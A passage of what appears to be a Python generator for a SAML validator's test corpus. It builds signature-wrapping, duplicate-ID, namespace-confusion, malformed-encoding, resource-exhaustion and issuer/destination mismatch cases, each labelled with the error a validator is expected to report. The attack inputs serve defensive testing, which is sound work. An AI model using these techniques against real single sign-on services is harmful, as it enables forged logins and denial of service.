                 "assertion modified")
        tree, prolog, R, A = self.derive(BA)
        E = copy.deepcopy(A)
        make_evil(E)
        E.set("ID", "_evil")
        E.set(q(NS_A, "ID"), aid)
        R.replace(A, E)
        self.add("attr_pollution_assertion_saml_id", "attack", TP, "V6",
                 "signature_reference_mismatch", serialize(tree, prolog),
                 description="evil assertion with ID=\"_evil\" and a namespaced ID attribute "
                 "holding the signed ID, plus a copy of the Signature")
        tree, prolog, R, A = self.derive(BA)
        A.set(q(NS_P, "ID"), aid)
        self.add("attr_pollution_duplicate_value", "attack", TP, "V6", "xml_duplicate_id",
                 serialize(tree, prolog),
                 description="the signed assertion also carries samlp:ID with its own ID value")
        for name, attr in (("dup_id_xml_id", "xml:id"), ("dup_id_lowercase_id", "id"),
                           ("dup_id_capital_id", "Id"), ("dup_id_assertionid", "AssertionID"),
                           ("dup_id_responseid", "ResponseID"),
                           ("dup_id_wsu_id", "wsu:Id")):
            decl = (' xmlns:wsu="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-'
                    'wssecurity-utility-1.0.xsd"') if attr.startswith("wsu") else ""
            data = self.splice(base, "<samlp:Status>", '<x:Decoy xmlns:x="urn:x"%s %s="%s"/>'
                               '<samlp:Status>' % (decl, attr, aid))
            self.add(name, "attack", "threats.md §0 V6 duplicate IDs (%s)" % attr, "V6",
                     "xml_duplicate_id", data,
                     description="an unsigned decoy element with %s=\"<signed assertion ID>\""
                     % attr)
        tree, prolog, R, A = self.derive("entra2021_both_signed_compact")
        A.set("ID", R.get("ID"))
        self.add("dup_id_response_equals_assertion", "attack", "threats.md §0 V6 duplicate IDs",
                 "V6", "xml_duplicate_id", serialize(tree, prolog),
                 description="the assertion's ID set to the Response's ID")

        # namespace confusion
        TN = "threats.md §6.5 namespace confusion"
        for name, old, new, desc in (
                ("xml_xmlns_attribute", "<Subject>", '<Subject xml:xmlns="%s">' % NS_DS,
                 "xml:xmlns pseudo-declaration"),
                ("xmlns_xml_rebound", "<Subject>", '<Subject xmlns:xml="http://evil.example/">',
                 "xmlns:xml bound to another URI"),
                ("xmlns_xmlns_declared", "<Subject>",
                 '<Subject xmlns:xmlns="http://www.w3.org/2000/xmlns/">', "xmlns:xmlns declared"),
                ("prefix_bound_to_xml_namespace", "<Subject>",
                 '<Subject xmlns:foo="http://www.w3.org/XML/1998/namespace">',
                 "another prefix bound to the XML namespace"),
                ("prefix_bound_to_xmlns_namespace", "<Subject>",
                 '<Subject xmlns:foo="http://www.w3.org/2000/xmlns/">',
                 "a prefix bound to the xmlns namespace"),
                ("xml_unknown_attribute", "<Subject>", '<Subject xml:foo="bar">',
                 "xml:foo attribute"),
                ("xmlns_prefix_empty_unused", "<samlp:Status>",
                 '<samlp:Status xmlns:saml="">', "xmlns:saml=\"\" (undeclaration) on Status"),
                ("xmlns_ds_empty_on_signature", '<Signature xmlns="%s">' % NS_DS,
                 '<Signature xmlns="%s" xmlns:ds="">' % NS_DS, "xmlns:ds=\"\" on the Signature")):
            self.add(name, "xml", TN + " (%s)" % desc, "V2", "xml_invalid_namespace",
                     self.splice(base, old, new), description=desc)
        data = self.splice(base, "<samlp:Status>", '<samlp:Extensions><Wrapper xmlns="%s"><Child '
                           'xml:xmlns="#other"><Signature>REAL_SIG</Signature></Child></Wrapper>'
                           '</samlp:Extensions><samlp:Status>' % NS_DS)
        self.add("portswigger_xml_xmlns_wrapper", "attack", TN + " (The Fragile Lock)", "V2",
                 "xml_invalid_namespace", data,
                 description="Extensions/Wrapper(xmlns=dsig)/Child(xml:xmlns=\"#other\")/Signature")
        for name, attr in (("xml_lang_on_attribute_value", 'xml:lang="fr"'),
                           ("xml_space_on_attribute_value", 'xml:space="preserve"')):
            doc = build(name)
            av = doc.assertion.child("AttributeStatement").child("Attribute").child(
                "AttributeValue")
            k, v = attr.split("=")
            av.attrs.append((k, v.strip('"')))
            self.add(name, "legit", "threats.md §6.7 xml:* attributes allowed", "V2", "valid",
                     self.S.sign_doc(doc, pretty=True), identity=doc.identity)
        # undeclared prefixes
        self.add("undeclared_prefix_element", "xml", "threats.md §6.7 undeclared prefix", "V2",
                 "xml_undeclared_prefix",
                 self.splice(self.splice(base, "<NameID ", "<saml:NameID "),
                             "</NameID>", "</saml:NameID>"))
        self.add("undeclared_prefix_attribute", "xml", "threats.md §6.7 undeclared prefix", "V2",
                 "xml_undeclared_prefix", self.splice(base, "<NameID ", '<NameID foo:bar="x" '))
        # look-alike namespaces
        TL = "threats.md §6.7 look-alike namespace"
        data = self.resub(rb'(<Assertion ID="[^"]+" IssueInstant="[^"]+" Version="2.0" xmlns=")'
                      rb'urn:oasis:names:tc:SAML:2.0:assertion"',
                      rb'\1urn:oasis:names:tc:SAML:2.0:assertion:evil"', base)
        self.add("lookalike_assertion_namespace", "attack", TL, "V3", "assertion_missing", data,
                 description="the only assertion is in urn:oasis:names:tc:SAML:2.0:assertion:evil")
        data = self.splice(self.base("keycloak_assertion_signed"), "<saml:Assertion ",
                           '<saml:Assertion xmlns:saml="urn:evil" ')
        self.add("lookalike_saml_prefix_evil_namespace", "attack", TL, "V3", "assertion_missing",
                 data, config=CFG_KEYCLOAK,
                 description="saml: re-bound to urn:evil on the only saml:Assertion")
        data = self.resub(rb'(<Assertion ID="[^"]+" IssueInstant="[^"]+" Version="2.0" xmlns=")'
                          rb'urn:oasis:names:tc:SAML:2.0:assertion"',
                          rb'\1urn:oasis:names:tc:SAML:2.0:protocol"', base)
        self.add("lookalike_assertion_in_protocol_namespace", "attack", TL, "V3",
                 "assertion_missing", data)
        tree, prolog, R, A = self.derive(BA)
        E = copy.deepcopy(A)
        detach(sig_of(E))
        make_evil(E)
        E.set("ID", make_id("second_assertion_other_prefix", "evil"))
        E2 = etree.fromstring(etree.tostring(E).replace(
            b'xmlns="urn:oasis:names:tc:SAML:2.0:assertion"',
            b'xmlns:foo="urn:oasis:names:tc:SAML:2.0:assertion"').replace(b"<", b"<foo:").replace(
            b"<foo:/", b"</foo:"))
        R.append(E2)
        self.add("second_assertion_other_prefix", "attack", TL, "V3", "unexpected_assertion",
                 serialize(tree, prolog),
                 description="evil second assertion written with a foo: prefix bound to the "
                 "assertion namespace")
        for name, old, new in (
                ("root_namespace_lookalike", 'xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"',
                 'xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocoI"'),
                ("root_in_assertion_namespace",
                 'xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"',
                 'xmlns:samlp="urn:oasis:names:tc:SAML:2.0:assertion"')):
            self.add(name, "attack", "threats.md §9 root must be samlp:Response", "V3",
                     "not_a_response", self.splice(base, old, new))
        # other message types as the root
        self.other_roots()
        # Go encoding/xml round-trip malformed names (mattermost corpus)
        TG = "threats.md §6.1 Go round-trip malformed names"
        i_subj = base.index(b"<NameID")
        for name, where, text in (
                ("go_double_colon_attribute_on_root", "root", '::foo="bar" '),
                ("go_colon_attribute_on_root", "root", ':="value" '),
                ("go_prefix_only_attribute_on_root", "root", 'x:="value" '),
                ("go_xmlns_colon_on_root", "root", 'xmlns:="y" '),
                ("go_double_colon_element", "subject", "<x::Element/>"),
                ("go_double_colon_end_tag", "subject", '<x:Element xmlns:x="urn:x"></::Element>'),
                ("go_empty_local_name_element", "subject", '<x: xmlns:x="urn:x"></x:>'),
                ("go_directive_in_content", "subject", "<! <<!-- -->!-- x --> y>"),
                ("go_directive_with_quote", "subject", '<! ">" <X/>>')):
            if where == "root":
                data = self.splice(base, "<samlp:Response ", "<samlp:Response " + text)
            else:
                data = base[:i_subj] + text.encode() + base[i_subj:]
            self.add(name, "xml", TG, "V2", "xml_malformed", data, description=text)

    def other_roots(self):
        T = "threats.md §9 signed message of another type posted to the ACS"
        # LogoutResponse signed by the IdP
        rid = make_id("logout", "response")
        root = El("samlp:LogoutResponse", [("xmlns:samlp", NS_P), ("ID", rid), ("Version", "2.0"),
                                           ("IssueInstant", ts(BASE)), ("Destination", ACS),
                                           ("InResponseTo", REQUEST_ID)], [
            El("Issuer", [("xmlns", NS_A)], ["https://login.microsoftonline.com/%s/" % TENANT]),
            El("samlp:Status", [], [El("samlp:StatusCode", [("Value", SUCCESS)])])])
        sig = signature_skeleton("", rid)
        root.insert_after(root.child("Issuer"), sig)
        doc = Doc(root, root, None, rid, None, "entra2021", None, [sig], "single", None,
                  IDP_ENTITY)
        self.add("root_logout_response_signed", "attack", T, "V3", "not_a_response",
                 self.S.sign_doc(doc, pretty=True))
        # AuthnRequest (unsigned, from the SP itself)
        root = El("samlp:AuthnRequest", [("xmlns:samlp", NS_P), ("ID", REQUEST_ID),
                                         ("Version", "2.0"), ("IssueInstant", ts(BASE)),
                                         ("AssertionConsumerServiceURL", ACS)], [
            El("Issuer", [("xmlns", NS_A)], [SP_ENTITY])])
        self.add("root_authn_request", "attack", T, "V3", "not_a_response",
                 root.render(True).encode())
        # the signed assertion alone
        A = the_assertion(etree.fromstring(self.base("entra2021_assertion_signed_compact"),
                                           PARSER))
        self.add("root_signed_assertion_only", "attack", T, "V3", "not_a_response",
                 etree.tostring(A, encoding="UTF-8", xml_declaration=False),
                 description="the IdP-signed Assertion posted without a Response")
        # ArtifactResponse wrapping the signed Response
        R = etree.fromstring(self.base("entra2021_both_signed_compact"), PARSER)
        art = etree.Element(q(NS_P, "ArtifactResponse"), nsmap={"samlp": NS_P})
        art.set("ID", make_id("artifact", "response"))
        art.set("Version", "2.0")
        art.set("IssueInstant", ts(BASE))
        st = etree.SubElement(art, q(NS_P, "Status"))
        etree.SubElement(st, q(NS_P, "StatusCode")).set("Value", SUCCESS)
        art.append(R)
        self.add("root_artifact_response", "attack", T, "V3", "not_a_response",
                 etree.tostring(art, encoding="UTF-8", xml_declaration=False),
                 description="a samlp:ArtifactResponse wrapping the signed Response")

    # -- §8.2 encodings and characters ----------------------------------------------------------

    def xml_encoding(self):
        BC = "entra2021_assertion_signed_compact_no_keyinfo"
        base = self.base(BC)
        text = base.decode("utf-8")
        T = "threats.md §8.2 encoding and characters"
        nid = ">%s</NameID>" % USER

        def decl(d):
            return (d + "\n").encode() + base

        for name, data, expect, desc in (
                ("utf16le_bom", b"\xff\xfe" + ('<?xml version="1.0" encoding="UTF-16"?>\n'
                                               + text).encode("utf-16-le"), "xml_not_utf8",
                 "whole document UTF-16LE with BOM"),
                ("utf16be_bom", b"\xfe\xff" + ('<?xml version="1.0" encoding="UTF-16"?>\n'
                                               + text).encode("utf-16-be"), "xml_not_utf8",
                 "whole document UTF-16BE with BOM"),
                ("utf32le_bom", b"\xff\xfe\x00\x00" + ('<?xml version="1.0" encoding="UTF-32"?>'
                                                       '\n' + text).encode("utf-32-le"),
                 "xml_not_utf8", "whole document UTF-32LE with BOM"),
                ("decl_iso_8859_1", decl('<?xml version="1.0" encoding="ISO-8859-1"?>'),
                 "xml_not_utf8", "ISO-8859-1 declaration, ASCII-only content"),
                ("decl_iso_8859_1_latin1_bytes", self.splice(
                    decl('<?xml version="1.0" encoding="ISO-8859-1"?>'), b">B. Simon<",
                    b">B. Sim\xf6n<"), "xml_not_utf8", "ISO-8859-1 declaration and a Latin-1 byte"),
                ("decl_windows_1252", decl('<?xml version="1.0" encoding="windows-1252"?>'),
                 "xml_not_utf8", "windows-1252 declaration"),
                ("decl_us_ascii", decl('<?xml version="1.0" encoding="US-ASCII"?>'),
                 "xml_not_utf8", "US-ASCII declaration"),
                ("decl_utf7", decl('<?xml version="1.0" encoding="UTF-7"?>'), "xml_not_utf8",
                 "UTF-7 declaration"),
                ("decl_utf16_on_utf8_bytes", decl('<?xml version="1.0" encoding="UTF-16"?>'),
                 "xml_not_utf8", "UTF-16 declaration on UTF-8 bytes"),
                ("bom_utf8_with_utf16_decl", b"\xef\xbb\xbf" + decl(
                    '<?xml version="1.0" encoding="UTF-16"?>'), "xml_not_utf8",
                 "UTF-8 BOM but the declaration says UTF-16"),
                ("version_1_1", decl('<?xml version="1.1" encoding="UTF-8"?>'),
                 "xml_unsupported_version", "XML 1.1"),
                ("version_2_0", decl('<?xml version="2.0"?>'), "xml_unsupported_version",
                 "XML version 2.0"),
                ("version_1_1_with_nel", self.splice(decl('<?xml version="1.1"?>'),
                                                     b">B. Simon<", b">B.\xc2\x85Simon<"),
                 "xml_unsupported_version", "XML 1.1 with a NEL character in a value"),
                ("invalid_utf8_overlong", self.splice(base, b">B. Simon<", b">B.\xc0\xafSimon<"),
                 "xml_not_utf8", "overlong encoding C0 AF"),
                ("invalid_utf8_surrogate", self.splice(base, b">B. Simon<",
                                                       b">B.\xed\xa0\x80Simon<"),
                 "xml_not_utf8", "encoded surrogate ED A0 80"),
                ("invalid_utf8_truncated", self.splice(base, b">B. Simon<", b">B. Simon\xe6\x97<"),
                 "xml_not_utf8", "truncated 3-byte sequence"),
                ("invalid_utf8_lone_continuation", self.splice(base, b">B. Simon<",
                                                               b">B.\x80Simon<"),
                 "xml_not_utf8", "lone continuation byte"),
                ("invalid_utf8_above_u10ffff", self.splice(base, b">B. Simon<",
                                                           b">B.\xf4\x90\x80\x80Simon<"),
                 "xml_not_utf8", "F4 90 80 80 (above U+10FFFF)"),
                ("invalid_utf8_ff_byte", self.splice(base, b">B. Simon<", b">B.\xffSimon<"),
                 "xml_not_utf8", "FF byte")):
            self.add(name, "xml", T, "V2", expect, data, description=desc)
        for name, raw, desc in (
                ("char_raw_nul_in_nameid", b"\x00", "raw NUL inside the NameID"),
                ("char_raw_soh_in_nameid", b"\x01", "raw U+0001"),
                ("char_raw_backspace_in_nameid", b"\x08", "raw U+0008"),
                ("char_raw_vt_in_nameid", b"\x0b", "raw U+000B"),
                ("char_raw_ff_in_nameid", b"\x0c", "raw U+000C"),
                ("char_raw_us_in_nameid", b"\x1f", "raw U+001F"),
                ("char_raw_fffe_in_nameid", "\ufffe".encode(), "raw U+FFFE"),
                ("char_raw_ffff_in_nameid", "\uffff".encode(), "raw U+FFFF"),
                ("char_ref_nul_in_nameid", b"&#0;", "&#0;"),
                ("char_ref_x0_in_nameid", b"&#x0;", "&#x0;"),
                ("char_ref_soh_in_nameid", b"&#x1;", "&#x1;"),
                ("char_ref_us_in_nameid", b"&#31;", "&#31;"),
                ("char_ref_surrogate_in_nameid", b"&#xD800;", "&#xD800;"),
                ("char_ref_low_surrogate_in_nameid", b"&#xDFFF;", "&#xDFFF;"),
                ("char_ref_fffe_in_nameid", b"&#xFFFE;", "&#xFFFE;"),
                ("char_ref_ffff_in_nameid", b"&#xFFFF;", "&#xFFFF;"),
                ("char_ref_above_unicode_in_nameid", b"&#x110000;", "&#x110000;")):
            data = self.splice(base, nid.encode(), b">B.Simon" + raw + b"@contoso.com</NameID>")
            self.add(name, "xml", T + " (forbidden character)", "V2", "xml_invalid_character",
                     data, description=desc + " inside the NameID")
        self.add("char_raw_soh_in_attribute", "xml", T, "V2", "xml_invalid_character",
                 self.splice(base, 'Recipient="%s"' % ACS, 'Recipient="%s\x01"' % ACS))
        self.add("char_ref_nul_in_attribute", "xml", T, "V2", "xml_invalid_character",
                 self.splice(base, 'Recipient="%s"' % ACS, 'Recipient="%s&#0;"' % ACS))
        for name, data, desc in (
                ("whitespace_before_xml_decl", b" " + decl('<?xml version="1.0"?>'),
                 "a space before <?xml"),
                ("second_xml_decl", decl('<?xml version="1.0"?>\n<?xml version="1.0"?>'),
                 "two XML declarations"),
                ("xml_decl_inside_content", self.splice(base, b"<samlp:Status>",
                                                        b'<?xml version="1.0"?><samlp:Status>'),
                 "<?xml ...?> between Response children"),
                ("xml_decl_after_bom_and_space", b"\xef\xbb\xbf\n" + decl('<?xml version="1.0"?>'),
                 "BOM, newline, then the declaration"),
                ("xml_decl_unterminated", b'<?xml version="1.0" ' + base,
                 "declaration without ?>"),
                ("xml_decl_without_version", decl('<?xml encoding="UTF-8"?>'),
                 "declaration without version")):
            self.add(name, "xml", "threats.md §8.3 XML declaration placement", "V2",
                     "xml_malformed", data, description=desc)

    # -- §8.3 structure -------------------------------------------------------------------------

    def xml_structure(self):
        BA = "entra2021_assertion_signed_compact_no_keyinfo"
        base = self.base(BA)
        T = "threats.md §8.3 structural well-formedness"
        status = b"<samlp:Status>"
        cases = [
            ("second_root", base + b'\n<samlp:Response xmlns:samlp="%s"/>' % NS_P.encode(),
             "xml_content_outside_root", "an empty second root element"),
            ("text_after_root", base + b"garbage", "xml_content_outside_root",
             "text after the root"),
            ("text_before_root", b"junk" + base, "xml_content_outside_root",
             "text before the root"),
            ("element_after_root", base + b"<x/>", "xml_content_outside_root",
             "an element after the root"),
            ("comment_then_element_before_root", b"<!-- x --><x/>\n" + base,
             "xml_content_outside_root", "an element (after a comment) before the root"),
            ("mismatched_end_tag", self.splice(base, b"</Subject>", b"</Subjekt>"),
             "xml_malformed", "</Subjekt> closes <Subject>"),
            ("unclosed_root", base[:base.rindex(b"</samlp:Response>")], "xml_malformed",
             "document ends before the root end tag"),
            ("truncated_in_tag", base[:len(base) // 2] + b"<samlp:Sta", "xml_malformed",
             "document truncated inside a start tag"),
            ("end_tag_after_root", base + b"</samlp:Response>", "xml_malformed",
             "an extra end tag after the root"),
            ("duplicate_attribute_raw", self.splice(base, b'<NameID Format=',
                                                    b'<NameID Format="x" Format='),
             "xml_duplicate_attribute", "Format twice on NameID"),
            ("duplicate_id_attribute_raw", self.resub(rb'(<Assertion )(ID="[^"]+")', rb'\1\2 \2',
                                                      base),
             "xml_duplicate_attribute", "ID twice on the Assertion"),
            ("duplicate_attribute_expanded", self.splice(
                base, b"<NameID ", b'<NameID xmlns:a="urn:u" xmlns:b="urn:u" a:x="1" b:x="2" '),
             "xml_duplicate_attribute", "a:x and b:x with a and b bound to the same URI"),
            ("duplicate_namespace_declaration", self.splice(
                base, b"<NameID ", b'<NameID xmlns:a="urn:u" xmlns:a="urn:u" '),
             "xml_duplicate_attribute", "xmlns:a declared twice on one element"),
            ("dangling_ampersand_in_text", self.splice(base, b">Simon<", b">Simon & Co<"),
             "xml_malformed", "a bare & in text"),
            ("dangling_ampersand_in_attribute", self.splice(base, b'Recipient="%s"' % ACS.encode(),
                                                            b'Recipient="%s?a=1&b=2"'
                                                            % ACS.encode()),
             "xml_malformed", "a bare & in an attribute value"),
            ("lt_in_attribute_value", self.splice(base, b'Recipient="%s"' % ACS.encode(),
                                                  b'Recipient="%s<"' % ACS.encode()),
             "xml_malformed", "< inside an attribute value"),
            ("double_dash_in_comment", self.splice(base, status, b"<!-- a -- b -->" + status),
             "xml_malformed", "-- inside a comment"),
            ("comment_ending_with_dash", self.splice(base, status, b"<!-- a --->" + status),
             "xml_malformed", "comment ending with --->"),
            ("cdata_end_in_text", self.splice(base, b">Simon<", b">Simon]]><"),
             "xml_malformed", "]]> in text"),
            ("unterminated_comment", base + b"<!-- never closed", "xml_malformed",
             "unterminated comment after the root"),
            ("unterminated_comment_inside", self.splice(base, status, b"<!-- x" + status),
             "xml_malformed", "unterminated comment inside the root"),
            ("unterminated_cdata", self.splice(base, b">Simon<", b"><![CDATA[Simon<"),
             "xml_malformed", "unterminated CDATA section"),
            ("unterminated_pi", base + b"<?pi never closed", "xml_malformed",
             "unterminated processing instruction"),
            ("pi_target_xml_inside", self.splice(base, status, b"<?xml?>" + status),
             "xml_malformed", "<?xml?> (reserved target) inside the content"),
            ("attribute_without_value", self.splice(base, b"<NameID ", b"<NameID checked "),
             "xml_malformed", "attribute without a value"),
            ("attribute_unquoted", self.splice(base, b"<NameID ", b"<NameID x=1 "),
             "xml_malformed", "unquoted attribute value"),
            ("attribute_no_space_between", self.splice(base, b'<NameID Format=',
                                                       b'<NameID a="1"Format='),
             "xml_malformed", "no whitespace between attributes"),
            ("bad_element_name_digit", self.splice(base, status, b"<1x/>" + status),
             "xml_malformed", "element name starting with a digit"),
            ("bad_qname_double_colon", self.splice(base, status, b"<a:b:c xmlns:a=\"urn:a\"/>"
                                                   + status),
             "xml_malformed", "QName with two colons"),
            ("cdata_after_root", base + b"<![CDATA[x]]>", "xml_content_outside_root",
             "CDATA section after the root"),
            ("no_root_only_comment", b"<!-- nothing here -->", "xml_no_root", "only a comment"),
            ("no_root_only_declaration", b'<?xml version="1.0" encoding="UTF-8"?>\n',
             "xml_no_root", "only an XML declaration"),
            ("no_root_whitespace", b"  \n\t\r\n", "xml_no_root", "only whitespace"),
            ("no_root_pi", b"<?pi x?>", "xml_no_root", "only a processing instruction"),
        ]
        for name, data, expect, desc in cases:
            self.add(name, "xml", T, "V2", expect, data, description=desc)

    # -- §8.4 limits ----------------------------------------------------------------------------

    def limits(self):
        BA = "entra2021_assertion_signed_compact_no_keyinfo"
        BC = "entra2021_assertion_signed_compact_no_keyinfo"
        base = self.base(BA)
        T = "threats.md §8.4 resource exhaustion (%s)"
        av = b"<AttributeValue>"
        i = base.index(av) + len(av)
        self.add("limits_depth_70", "xml", T % "depth", "V2", "limit_exceeded",
                 base[:i] + b"<x>" * 70 + b"</x>" * 70 + base[i:],
                 description="70 nested elements inside an AttributeValue (limit: depth 64)")
        attrs64 = b"".join(b' a%d="%d"' % (k, k) for k in range(64))
        attrs65 = b"".join(b' a%d="%d"' % (k, k) for k in range(65))
        ext = b'<samlp:Extensions><x:Big xmlns:x="urn:x"%s/></samlp:Extensions><samlp:Status>'
        # x:Big carries one namespace declaration plus the attributes
        attrs63 = b"".join(b' a%d="%d"' % (k, k) for k in range(63))
        self.add("limits_attributes_64_valid", "xml", T % "attributes per element", "V2",
                 "valid", self.splice(base, b"<samlp:Status>", ext % attrs63),
                 identity=self.ident(BA),
                 description="an unsigned extension element with 1 namespace declaration + 63 "
                 "attributes = 64 (the limit)")
        self.add("limits_attributes_65", "xml", T % "attributes per element", "V2",
                 "limit_exceeded", self.splice(base, b"<samlp:Status>", ext % attrs64),
                 description="1 namespace declaration + 64 attributes = 65")
        self.add("limits_attributes_65_plain", "xml", T % "attributes per element", "V2",
                 "limit_exceeded", self.splice(base, b"<NameID ", b"<NameID" + attrs65 + b" "),
                 description="65 extra attributes on the NameID")
        del attrs64
        n256 = b"n" * 256
        n257 = b"n" * 257
        self.add("limits_name_256_valid", "xml", T % "name length", "V2", "valid",
                 self.splice(base, b"<samlp:Status>", b'<samlp:Extensions><%s xmlns="urn:x"/>'
                             b'</samlp:Extensions><samlp:Status>' % n256),
                 identity=self.ident(BA), description="an unsigned element whose name is 256 "
                 "bytes (the limit)")
        self.add("limits_name_257", "xml", T % "name length", "V2", "limit_exceeded",
                 self.splice(base, b"<samlp:Status>", b'<samlp:Extensions><%s xmlns="urn:x"/>'
                             b'</samlp:Extensions><samlp:Status>' % n257),
                 description="an element name of 257 bytes")
        self.add("limits_attribute_name_257", "xml", T % "name length", "V2", "limit_exceeded",
                 self.splice(base, b"<NameID ", b'<NameID %s="x" ' % n257),
                 description="an attribute name of 257 bytes")
        # recipes (built in memory by the test runner)
        bfile = BC + ".xml"
        recipes = [
            ("limits_deep_nesting_100000", dict(kind="deep_nesting", base=bfile,
                                                anchor="<AttributeValue>", element="x",
                                                depth=100000), "xml",
             "100000 nested <x> inside the first AttributeValue"),
            ("limits_many_attributes_100000", dict(kind="many_attributes", base=bfile,
                                                   anchor="<NameID", name_prefix="a",
                                                   count=100000), "xml",
             "100000 attributes on the NameID"),
            ("limits_many_attributes_5000", dict(kind="many_attributes", base=bfile,
                                                 anchor="<NameID", name_prefix="a",
                                                 count=5000), "xml",
             "5000 attributes on the NameID (~100 KB, below the size limits)"),
            ("limits_many_namespace_declarations", dict(kind="many_attributes", base=bfile,
                                                        anchor="<NameID", name_prefix="xmlns:p",
                                                        count=1000), "xml",
             "1000 namespace declarations on the NameID"),
            ("limits_huge_signature_value", dict(kind="long_text", base=bfile,
                                                 anchor="<SignatureValue>", prefix="",
                                                 char="A", length=10 * 1024 * 1024, suffix=""),
             "xml", "10 MiB of base64 inserted into the SignatureValue"),
            ("limits_xml_over_768k", dict(kind="long_text", base=bfile,
                                          anchor="</samlp:Response>", prefix="\n<!--", char="x",
                                          length=800 * 1024, suffix="-->"), "xml",
             "an 800 KiB comment after the root (decoded XML limit 768 KiB)"),
            ("limits_many_nodes", dict(kind="many_elements", base=bfile,
                                       anchor="<AttributeValue>", fragment="<x/>",
                                       count=25000), "xml",
             "25000 empty elements inside an AttributeValue (node limit 20000, ~100 KB)"),
            ("limits_many_attribute_elements", dict(
                kind="many_elements", base=bfile, anchor="<AttributeStatement>",
                fragment='<Attribute Name="a{i}"><AttributeValue>v</AttributeValue></Attribute>',
                count=100000), "xml", "100000 Attribute elements"),
            ("limits_many_transforms", dict(
                kind="many_elements", base=bfile, anchor="<Transforms>",
                fragment='<Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>',
                count=25000), "xml", "25000 Transform elements"),
        ]
        for name, gen, enc, desc in recipes:
            self.reg.add(name, "xml", T % gen["kind"], "V2", "limit_exceeded", None,
                         encoding=enc, generate=gen, description=desc)

    # -- §9 semantics ---------------------------------------------------------------------------

    def semantics(self):
        reg, S = self.reg, self.S

        def sem(name, expect, threat, sign="assertion", config=None, mutate=None, post=None,
                inv="V14", desc="", **kw):
            kw.setdefault("keyinfo", None)
            # a customised Entra claim set (objectidentifier, displayname, name) keeps these
            # documents small; the signature and semantics are what these cases are about
            kw.setdefault("attributes", small_entra_claims(name))
            doc = build(name, sign=sign, **kw)
            if mutate:
                mutate(doc)
            data = S.sign_doc(doc, pretty=False, verify=post is None)
            if post:
                data = post(data)
            reg.add(name, "semantics", "threats.md §9 " + threat, inv, expect, data, config,
                    doc.identity if expect == "valid" else None, description=desc)

        now = NOW
        R = "response"
        # versions, issuers
        sem("sem_response_version_1_1", "saml_unsupported_version", "Version", sign=R,
            mutate=lambda d: d.resp.set("Version", "1.1"))
        sem("sem_assertion_version_1_1", "saml_unsupported_version", "Version",
            mutate=lambda d: d.assertion.set("Version", "1.1"))
        sem("sem_response_issuer_other", "issuer_mismatch", "Issuer other entity", sign=R,
            resp_issuer="https://sts.windows.net/00000000-0000-0000-0000-000000000000/")
        sem("sem_response_issuer_format_unspecified", "issuer_mismatch", "Issuer Format",
            sign=R, mutate=lambda d: d.resp.child("Issuer").attrs.append(("Format",
                                                                           NAMEID_UNSPEC)))
        sem("sem_response_issuer_differs_from_assertion", "issuer_mismatch",
            "Response issuer != assertion issuer", sign="both",
            resp_issuer="https://login.microsoftonline.com/%s/" % TENANT)
        sem("sem_response_without_issuer_assertion_signed", "valid", "Response Issuer is "
            "optional", resp_issuer=None)
        sem("sem_assertion_issuer_other", "issuer_mismatch", "Issuer other entity",
            issuer="https://sts.windows.net/00000000-0000-0000-0000-000000000000/")
        sem("sem_assertion_issuer_no_trailing_slash", "issuer_mismatch", "Issuer exact match",
            issuer=IDP_ENTITY.rstrip("/"))
        sem("sem_assertion_issuer_uppercase", "issuer_mismatch", "Issuer exact match",
            issuer=IDP_ENTITY.replace("sts.windows.net", "STS.WINDOWS.NET"))
        sem("sem_assertion_issuer_format_unspecified", "issuer_mismatch", "Issuer Format",
            mutate=lambda d: d.assertion.child("Issuer").attrs.append(("Format",
                                                                       NAMEID_UNSPEC)))
        sem("sem_assertion_issuer_missing", "saml_malformed", "Issuer missing", sign=R,
            mutate=lambda d: d.assertion.remove(d.assertion.child("Issuer")),
            desc="Response signed; its unsigned assertion has no Issuer")
        sem("sem_assertion_issuer_empty", "issuer_mismatch", "Issuer empty", issuer="")
        # Destination
        for name, dest in (("sem_destination_other", "https://evil.example.com/saml/acs"),
                           ("sem_destination_empty", ""),
                           ("sem_destination_trailing_slash", ACS + "/"),
                           ("sem_destination_uppercase_host", ACS.replace("app.example.com",
                                                                          "APP.example.com")),
                           ("sem_destination_port_443", ACS.replace(".com/", ".com:443/")),
                           ("sem_destination_http", ACS.replace("https:", "http:"))):
            sem(name, "destination_mismatch", "Destination (exact match)", sign=R,
                destination=dest)
        sem("sem_destination_absent", "valid", "Destination optional", sign=R, destination=None)
        # InResponseTo
        sem("sem_response_in_response_to_other", "in_response_to_mismatch", "InResponseTo",
            sign=R, resp_irt="_0000000000000000000000000000dead")
        sem("sem_response_in_response_to_unexpected", "in_response_to_mismatch",
            "InResponseTo when no request was expected", sign=R,
            config={"requestId": None, "allowUnsolicited": True}, scd_irt=None)
        sem("sem_scd_in_response_to_other", "in_response_to_mismatch", "InResponseTo",
            scd_irt="_0000000000000000000000000000dead")
        sem("sem_scd_in_response_to_differs_from_response", "in_response_to_mismatch",
            "InResponseTo mismatch between Response and SubjectConfirmationData", sign=R,
            scd_irt="_0000000000000000000000000000dead")
        sem("sem_scd_in_response_to_unexpected", "in_response_to_mismatch",
            "InResponseTo when no request was expected",
            config={"requestId": None, "allowUnsolicited": True})
        sem("sem_scd_in_response_to_absent_response_present", "unsolicited_response",
            "InResponseTo only on the (unsigned) Response", scd_irt=None)
        # IssueInstant
        sem("sem_assertion_issue_instant_future", "assertion_not_yet_valid", "IssueInstant in "
            "the future", issue=now + timedelta(minutes=10))
        sem("sem_assertion_issue_instant_invalid", "invalid_time", "IssueInstant format",
            mutate=lambda d: d.assertion.set("IssueInstant", rel("2026-01-15 10:00:00Z")))
        # Subject / NameID
        sem("sem_no_subject", "saml_malformed", "Subject missing",
            mutate=lambda d: d.assertion.remove(d.assertion.child("Subject")))

        def two_subjects(d):
            d.assertion.insert_after(d.assertion.child("Subject"),
                                     copy.deepcopy(d.assertion.child("Subject")))
        sem("sem_two_subjects", "saml_malformed", "several Subject elements",
            mutate=two_subjects)

        def two_nameids(d):
            subj = d.assertion.child("Subject")
            subj.kids.insert(0, El("NameID", [("Format", NAMEID_EMAIL)], [VICTIM]))
        sem("sem_two_nameids", "saml_malformed", "several NameID elements (IdP-side XML "
            "injection)", mutate=two_nameids)
        sem("sem_no_nameid", "saml_malformed", "NameID missing",
